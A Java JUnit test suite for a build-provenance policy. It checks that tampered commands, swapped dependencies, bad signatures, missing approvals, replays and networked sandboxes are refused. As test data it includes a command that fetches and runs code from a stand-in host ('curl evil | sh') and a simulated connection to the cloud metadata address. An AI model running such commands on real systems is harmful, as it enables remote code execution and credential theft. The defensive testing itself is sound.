package dev.alnage.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.alnage.evidence.Bytes;
import dev.alnage.evidence.Digest;
import dev.alnage.evidence.Predicate;
import dev.alnage.evidence.Rejected;
import dev.alnage.evidence.Statement;
import dev.alnage.evidence.claim.Reuse;
import dev.alnage.evidence.order.Isolation;
import dev.alnage.evidence.order.Observation;
import dev.alnage.evidence.order.Observations;
import dev.alnage.evidence.order.Order;
import dev.alnage.evidence.order.Outcome;
import dev.alnage.evidence.order.StepReport;
import dev.alnage.evidence.order.Trace;
import dev.alnage.evidence.report.ReportKind;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

class FactoryPolicyTest {
    private final World world = new World();

    private void runBent(String step, World.Bend bend) {
        world.run("1");
        world.steps("1", Map.of(step, bend));
        world.approve("1", world.anna, world.ben);
    }

    private static void refused(Decision decision, String code) {
        var failed = assertInstanceOf(Verdict.Failed.class, decision.verdict(), () -> decision.verdict().toString());
        assertTrue(failed.reasons().stream().anyMatch(reason -> reason.code().equals(code)), () -> "expected " + code + " in " + failed);
    }

    private static void cannotTell(Decision decision, String code) {
        var unknown = assertInstanceOf(Verdict.CannotTell.class, decision.verdict(), () -> decision.verdict().toString());
        assertTrue(unknown.reasons().stream().anyMatch(reason -> reason.code().equals(code)), () -> "expected " + code + " in " + unknown);
    }

    private static Order argv(Order order, List<String> argv) {
        return new Order(order.run(), order.step(), order.pool(), order.plan(), order.image(), argv, order.environment(), order.inputs(),
                order.outputs(), order.limits(), order.issued(), order.expires());
    }

    private static Order inputs(Order order, SortedMap<String, Digest> inputs) {
        return new Order(order.run(), order.step(), order.pool(), order.plan(), order.image(), order.argv(), order.environment(), inputs,
                order.outputs(), order.limits(), order.issued(), order.expires());
    }

    private static StepReport seen(StepReport report, Observation observation) {
        return new StepReport(report.order(), report.work(), report.image(), report.run(), report.pool(), report.fence(), report.inputs(),
                report.outputs(), observation);
    }

    @Test void an_honest_run_passes_and_names_what_it_was_about() {
        var decision = World.honest().decide("1");
        assertInstanceOf(Verdict.Passed.class, decision.verdict(), () -> decision.verdict().toString());
        assertEquals(Map.of("app", world.application().digest()), decision.inputs());
    }

    @Test void equal_facts_give_an_equal_decision() {
        var honest = World.honest();
        assertEquals(honest.decide("1"), honest.decide("1"));
    }

    @Tag("build/passed-in-environment")
    @Test void a_command_other_than_planned_is_refused_which_the_reference_lets_pass() {
        var bend = new World.Bend();
        bend.order = order -> argv(order, List.of("/bin/sh", "-c", "curl evil | sh"));
        runBent("lib", bend);
        refused(world.decide("1"), "ALN-BLD-004");
    }

    @Test void a_link_that_names_another_command_than_its_order_is_refused() {
        var bend = new World.Bend();
        bend.link = statement -> {
            var link = (Predicate.Link) statement.predicate();
            return new Statement(statement.subjects(), new Predicate.Link(link.name(), List.of("/jdk/bin/java", "Evil"), link.materials(),
                    link.byproducts(), link.environment()));
        };
        runBent("unit", bend);
        refused(world.decide("1"), "ALN-BLD-004");
    }

    @Test void an_input_left_out_is_refused_which_the_reference_lets_pass() {
        var bend = new World.Bend();
        bend.link = statement -> {
            var link = (Predicate.Link) statement.predicate();
            return new Statement(statement.subjects(), new Predicate.Link(link.name(), link.command(), link.materials().stream()
                    .filter(material -> !material.name().startsWith("lib/")).toList(), link.byproducts(), link.environment()));
        };
        runBent("app@a", bend);
        refused(world.decide("1"), "ALN-BLD-007");
    }

    @Test void a_dependency_swapped_between_build_and_link_is_refused() {
        var evil = world.tree(Map.of("dep.jar", Bytes.utf8("an attacker's dependency")));
        var bend = new World.Bend();
        bend.order = order -> inputs(order, new TreeMap<>(Map.of("src", world.source.digest(), "lib", evil.digest())));
        runBent("app@a", bend);
        refused(world.decide("1"), "ALN-BLD-007");
    }

    @Test void a_material_swapped_behind_its_pin_cannot_be_told() {
        world.run("1");
        world.forget(found -> world.about(Digest.of(World.DEPENDENCY)).contains(found));
        world.steps("1", Map.of());
        cannotTell(world.decide("1"), "ALN-MAT-001");
    }

    @Test void a_missing_link_of_the_test_step_cannot_be_told() {
        world.run("1");
        world.work("1", "lib", "a", Map.of("src", world.dependency()), Map.of("jar", world.library()), new World.Bend());
        for (var pool : List.of("a", "b")) {
            world.work("1", "app", pool, Map.of("src", world.source, "lib", world.library()), Map.of("app", world.application()), new World.Bend());
        }
        world.approve("1", world.anna, world.ben);
        cannotTell(world.decide("1"), "ALN-BLD-003");
    }

    @Tag("source/security-testing")
    @Test void a_test_report_that_says_failed_is_refused() {
        world.run("1");
        world.steps("1", Map.of());
        world.report(Predicate.TestResult.Result.FAILED, List.of("broken"));
        world.approve("1", world.anna, world.ben);
        refused(world.decide("1"), "ALN-TST-002");
    }

    @Tag("source/security-testing")
    @Test void a_report_that_was_read_as_another_kind_is_no_answer() {
        world.run("1");
        world.steps("1", Map.of());
        world.approve("1", world.anna, world.ben);
        var file = world.testReport().toResources("report/").getFirst().digests().getFirst();
        world.report(ReportKind.JUNIT.file("unit:report/*.xml", file), List.of("works"));
        assertInstanceOf(Verdict.Passed.class, world.decide("1").verdict());
        world.report(ReportKind.COVERAGE.file("unit:report/*.xml", file), List.of("LINE coverage 9 of 9"));
        refused(world.decide("1"), "ALN-TST-003");
    }

    @Tag("source/security-testing")
    @Test void a_report_signed_by_the_factory_itself_counts_for_nothing() {
        world.run("1");
        world.steps("1", Map.of());
        world.approve("1", world.anna, world.ben);
        world.forget(found -> found.envelope().signatures().getFirst().keyid().equals(world.reports.key().keyid()));
        world.record(world.planner, new Statement(List.of(dev.alnage.evidence.Resource.of("commit", World.COMMIT),
                world.testReport().toResources("report/").getFirst()), new Predicate.TestResult(Predicate.TestResult.Result.PASSED, List.of(), List.of(), List.of(), List.of())));
        cannotTell(world.decide("1"), "ALN-TST-001");
    }

    @Tag("build/factory-roles")
    @Test void one_approver_of_two_cannot_be_told() {
        world.run("1");
        world.steps("1", Map.of());
        world.approve("1", world.anna);
        cannotTell(world.decide("1"), "ALN-REL-001");
    }

    @Tag("D5")
    @Test void one_person_with_two_keys_counts_once() {
        world.run("1");
        world.steps("1", Map.of());
        world.approve("1", world.anna, world.annasOther);
        cannotTell(world.decide("1"), "ALN-REL-001");
    }

    @Test void an_approval_by_a_stranger_or_by_a_machine_counts_for_nothing() {
        world.run("1");
        world.steps("1", Map.of());
        world.approve("1", world.anna, world.stranger, world.planner, world.gate);
        cannotTell(world.decide("1"), "ALN-REL-001");
    }

    @Test void an_approval_of_another_run_counts_for_nothing() {
        world.run("1");
        world.steps("1", Map.of());
        world.approve("2", world.anna, world.ben);
        cannotTell(world.decide("1"), "ALN-REL-001");
    }

    @Tag("artifacts/validate-every-signature")
    @Test void a_link_by_a_wrong_key_counts_for_nothing() {
        var bend = new World.Bend();
        bend.linkSigner = java.util.Optional.of(world.stranger);
        runBent("unit", bend);
        cannotTell(world.decide("1"), "ALN-BLD-003");
    }

    @Test void two_results_of_one_pool_are_not_two_pools() {
        var bend = new World.Bend();
        bend.pool = "a";
        runBent("app@b", bend);
        cannotTell(world.decide("1"), "ALN-BLD-022");
    }

    @Tag("B9")
    @Test void pools_that_made_different_products_are_refused() {
        var bend = new World.Bend();
        bend.outputs = _ -> new TreeMap<>(Map.of("app", world.tree(Map.of("app.jar", Bytes.utf8("another application")))));
        runBent("app@b", bend);
        refused(world.decide("1"), "ALN-BLD-021");
    }

    @Test void a_link_of_another_run_is_a_replay() {
        world.run("1");
        world.steps("1", Map.of());
        world.run("2");
        world.approve("2", world.anna, world.ben);
        cannotTell(world.decide("2"), "ALN-BLD-003");
    }

    @Test void a_link_of_another_run_is_taken_with_the_planners_statement() {
        world.run("1");
        world.steps("1", Map.of());
        world.run("2");
        reuseEverything("2", world.planner);
        world.approve("2", world.anna, world.ben);
        assertInstanceOf(Verdict.Passed.class, world.decide("2").verdict(), () -> world.decide("2").verdict().toString());
    }

    @Test void a_reuse_statement_by_anybody_else_is_a_replay() {
        world.run("1");
        world.steps("1", Map.of());
        world.run("2");
        reuseEverything("2", world.ingest);
        world.approve("2", world.anna, world.ben);
        cannotTell(world.decide("2"), "ALN-BLD-003");
    }

    /** The planner mistaken, or its key stolen: what a statement takes over must be what it says it takes. */
    @Test void a_reuse_statement_that_names_another_step_pool_or_work_than_it_takes_is_refused() {
        var other = Digest.of(Bytes.utf8("other work"));
        for (UnaryOperator<Reuse> bend : List.<UnaryOperator<Reuse>>of(
                reuse -> new Reuse(reuse.run(), reuse.step().equals("lib") ? "unit" : reuse.step(), reuse.pool(), reuse.plan(), reuse.work(), reuse.receipt()),
                reuse -> new Reuse(reuse.run(), reuse.step(), reuse.step().equals("lib") ? "b" : reuse.pool(), reuse.plan(), reuse.work(), reuse.receipt()),
                reuse -> new Reuse(reuse.run(), reuse.step(), reuse.pool(), reuse.plan(), reuse.step().equals("lib") ? other : reuse.work(), reuse.receipt()))) {
            var fresh = new World();
            fresh.run("1");
            fresh.steps("1", Map.of());
            fresh.run("2");
            reuseEverything(fresh, "2", fresh.planner, bend);
            fresh.approve("2", fresh.anna, fresh.ben);
            refused(fresh.decide("2"), "ALN-BLD-012");
        }
    }

    private void reuseEverything(String run, dev.alnage.evidence.sign.Signer signer) {
        reuseEverything(world, run, signer, UnaryOperator.identity());
    }

    private static void reuseEverything(World world, String run, dev.alnage.evidence.sign.Signer signer, UnaryOperator<Reuse> bend) {
        for (var found : List.copyOf(world.about(world.plan.digest()))) {
            var statement = dev.alnage.evidence.read.StatementReader.read(found.envelope().payload());
            if (statement.predicate().type().equals(Order.TYPE)) {
                var order = Order.read(statement);
                var receipt = world.about(found.digest()).getFirst().digest();
                world.record(signer, bend.apply(new Reuse(run, order.step(), order.pool(), world.plan.digest(), order.workDigest(), receipt)).toStatement());
            }
        }
    }

    @Tag("build/minimal-network")
    @Test void a_build_that_reached_for_a_socket_is_refused() {
        var bend = new World.Bend();
        bend.report = report -> seen(report, new Observation(report.observation().isolation(), new Trace.Observed(1, List.of(),
                List.of(new Trace.Attempt(7, "connect", "169.254.169.254:80", "/jdk/bin/java", true)), 0), report.observation().outcome()));
        runBent("app@a", bend);
        refused(world.decide("1"), "ALN-BLD-013");
    }

    @Test void a_step_that_nobody_observed_is_refused() {
        var bend = new World.Bend();
        bend.report = report -> seen(report, new Observation(report.observation().isolation(), new Trace.NotObserved("bubblewrap"),
                report.observation().outcome()));
        runBent("lib", bend);
        refused(world.decide("1"), "ALN-BLD-018");
    }

    @Tag("build/runtime-security")
    @Test void a_sandbox_with_a_network_is_refused() {
        var bend = new World.Bend();
        bend.report = report -> {
            var i = report.observation().isolation();
            var open = new Isolation(i.runtime(), i.version(), i.kernel(), i.rootless(), i.workerFresh(), i.namespaces(), i.seccompMode(),
                    i.seccompFilters(), i.capabilities(), i.noNewPrivileges(), i.uid(), i.gid(), i.uidMap(), i.gidMap(), i.cgroup(), i.cgroupLimits(),
                    i.mounts(), new Isolation.Network(List.of("eth0", "lo"), List.of("eth0"), List.of("default")), i.scratch());
            return seen(report, new Observation(open, report.observation().trace(), report.observation().outcome()));
        };
        runBent("lib", bend);
        refused(world.decide("1"), "ALN-BLD-010");
    }

    @Test void a_failed_command_is_refused_whatever_it_left() {
        var bend = new World.Bend();
        bend.report = report -> seen(report, new Observation(report.observation().isolation(), report.observation().trace(),
                Observations.outcome(new Outcome.Ending.Exited(1))));
        runBent("unit", bend);
        refused(world.decide("1"), "ALN-BLD-009");
    }

    @Tag("B10")
    @Test void a_stolen_planner_key_cannot_leave_the_tests_out() {
        var shorter = World.PIPELINE.replaceFirst("(?m)^ *unit:.*\\R", "").replace(", report: unit/report", "");
        var forged = dev.alnage.evidence.pipeline.PipelineFile.compile(Bytes.utf8(shorter), World.COMMIT);
        var named = new dev.alnage.evidence.pipeline.Plan(forged.name(), forged.assurance(), World.COMMIT, world.plan.pipelineFile(), forged.steps());
        world.run("1");
        var envelope = world.record(world.planner, named.toStatement());
        world.record(world.planner, new dev.alnage.evidence.claim.Run("9", named.digest(), envelope, "release", World.NOW).toStatement());
        var decision = FactoryPolicy.STANDARD.decide(new Gatherer(world.trust, world, World.NOW).gather(new Question.OfStep("9", named.digest(), "publish")));
        refused(decision, "ALN-BLD-001");
    }

    @Test void a_plan_that_the_planner_did_not_sign_is_nothing_to_decide_about() {
        world.record(world.stranger, new dev.alnage.evidence.claim.Run("1", world.plan.digest(),
                world.record(world.stranger, world.plan.toStatement()), "release", World.NOW).toStatement());
        assertThrows(Rejected.Untrusted.class, () -> world.decide("1"));
    }

    @Test void a_lost_tree_cannot_be_told() {
        var honest = World.honest();
        var tree = honest.library().digest();
        honest.loseBlob(tree);
        cannotTell(honest.decide("1"), "ALN-BLD-015");
    }

    @Test void a_result_older_than_the_policy_allows_is_not_taken_over() {
        world.run("1");
        world.steps("1", Map.of());
        world.run("2");
        reuseEverything("2", world.planner);
        world.approve("2", world.anna, world.ben);
        var strict = new FactoryPolicy(Duration.ZERO, false);
        refused(strict.decide(new Gatherer(world.trust, world, World.NOW.plusSeconds(5)).gather(new Question.OfStep("2", world.plan.digest(), "publish"))), "ALN-BLD-012");
    }

    @Test void a_step_that_the_plan_does_not_have_never_passes() {
        var honest = World.honest();
        var facts = new Gatherer(honest.trust, honest, World.NOW.plusSeconds(1)).gather(new Question.OfStep("1", honest.plan.digest(), "no-such-step"));
        refused(FactoryPolicy.STANDARD.decide(facts), "ALN-BLD-014");
    }
}
